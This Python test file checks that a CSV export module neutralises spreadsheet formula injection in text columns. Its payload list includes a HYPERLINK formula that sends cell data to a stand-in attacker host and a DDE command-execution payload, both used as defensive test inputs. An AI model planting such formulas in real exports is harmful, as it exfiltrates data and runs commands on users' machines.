"""Exported CSV opens safely in Excel: no text cell, in any column, is read as a formula."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from exports.csv_export import defuse_formula, to_excel_csv

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Klicka")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def cells(data: bytes) -> list[list[str]]:
    """The CSV as Excel's importer splits it (UTF-8 with BOM, semicolons, quotes)."""
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def dangerous(cell: str) -> bool:
    return cell.startswith(tuple(TRIGGERS))


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("column", ["note", "area_name", "user_name", "file_name"])
def test_formula_in_any_text_column_is_defused(payload, column):
    frame = pd.DataFrame({"indicator_id": ["reported_rape"], column: [payload], "value": [3]})
    rows = cells(to_excel_csv(frame))
    header, row = rows[0], rows[1]
    cell = row[header.index(column)]
    assert cell == "'" + payload
    assert not any(dangerous(c) for r in rows for c in r)


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_every_trigger_character(trigger):
    assert defuse_formula(trigger + "x") == "'" + trigger + "x"
    assert defuse_formula("x" + trigger) == "x" + trigger  # only the first character matters


def test_numbers_stay_numbers_including_negative_ones():
    frame = pd.DataFrame({"value": [-5.0, 1.5, 1200.0], "denominator": [pd.NA, 10, 2000]})
    frame["denominator"] = frame["denominator"].astype("Int64")
    rows = cells(to_excel_csv(frame))
    assert rows[1:] == [["-5", ""], ["1,5", "10"], ["1200", "2000"]]


def test_area_names_and_notes_from_the_database_are_defused(seeded_db):
    """The export path the CLI and pages use: a note stored by an upload comes out defused."""
    from ingest.pipeline import ingest_upload
    from storage import export_rows
    from tests.conftest import TODAY

    body = (
        b"indicator_id,period,area_code,value,note\n"
        b'reported_rape,2026-04,STHLM,170,"=HYPERLINK(""http://evil.example"")"\n'
        b"reported_rape,2026-05,STHLM,171,@SUM(A1)\n"
    )
    report = ingest_upload(seeded_db, body, "notes.csv", user="test", today=TODAY)
    assert report.status == "committed", report.errors
    rows = cells(to_excel_csv(export_rows(seeded_db, indicator_id="reported_rape")))
    notes = [r[rows[0].index("note")] for r in rows[1:]]
    assert '\'=HYPERLINK("http://evil.example")' in notes and "'@SUM(A1)" in notes
    assert not any(dangerous(c) for r in rows for c in r)


def test_a_formula_after_a_line_break_stays_inside_its_quoted_cell():
    frame = pd.DataFrame({"note": ["rad ett\n=1+1", "a;=1+1", 'citat "=1+1"']})
    rows = cells(to_excel_csv(frame))
    assert [r[0] for r in rows[1:]] == ["rad ett\n=1+1", "a;=1+1", 'citat "=1+1"']


def test_missing_text_is_empty_and_other_types_are_text():
    frame = pd.DataFrame(
        {
            "note": pd.array([None, "=x", pd.NA], dtype="string"),
            "flag": [True, False, True],
            "kind": pd.Categorical(["-a", "b", "+c"]),
        }
    )
    rows = cells(to_excel_csv(frame))
    assert rows[1:] == [["", "True", "'-a"], ["'=x", "False", "b"], ["", "True", "'+c"]]


@settings(deadline=None, max_examples=200)
@given(st.lists(st.text(min_size=0, max_size=12), min_size=1, max_size=5))
def test_no_text_cell_ever_starts_a_formula(texts):
    frame = pd.DataFrame({"note": texts, "area_name": list(reversed(texts))})
    rows = cells(to_excel_csv(frame))
    assert not any(dangerous(c) for r in rows for c in r)


def test_hidden_cells_read_two_dots_whatever_the_frame_holds():
    frame = pd.DataFrame({"value": [3.0, 61.0, float("nan")], "note": ["=1+1", "a", "b"]})
    rows = cells(to_excel_csv(frame, hidden={"value": [True, False, True]}))
    assert rows[1:] == [["..", "'=1+1"], ["61", "a"], ["..", "b"]]
